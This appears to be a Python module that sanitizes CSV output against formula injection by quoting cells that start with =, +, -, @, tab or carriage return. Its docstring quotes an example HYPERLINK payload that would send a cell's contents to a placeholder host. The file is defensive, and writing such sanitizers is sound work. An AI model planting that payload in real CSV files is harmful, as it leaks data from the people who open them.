"""CSV that spreadsheet programs open safely: no cell is ever run as a formula.

A platform chooses its institution's name; a name such as
``=HYPERLINK("http://x/?"&A1,"详情")`` written raw into a CSV runs when a
regulator opens the file. Every CSV careledger writes for people goes
through ``SpreadsheetWriter``, which follows OWASP's advice on CSV injection:
a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is prefixed with ``'``, so the program shows it as text. Plain
numbers (``-12.5``, ``+3``) are left as they are: they run nothing.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

__all__ = ["SpreadsheetWriter", "safe_cell"]

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: object) -> object:
    """The value to write in a cell: None as empty, a would-be formula as quoted text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SpreadsheetWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, out: _Writable, *, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])
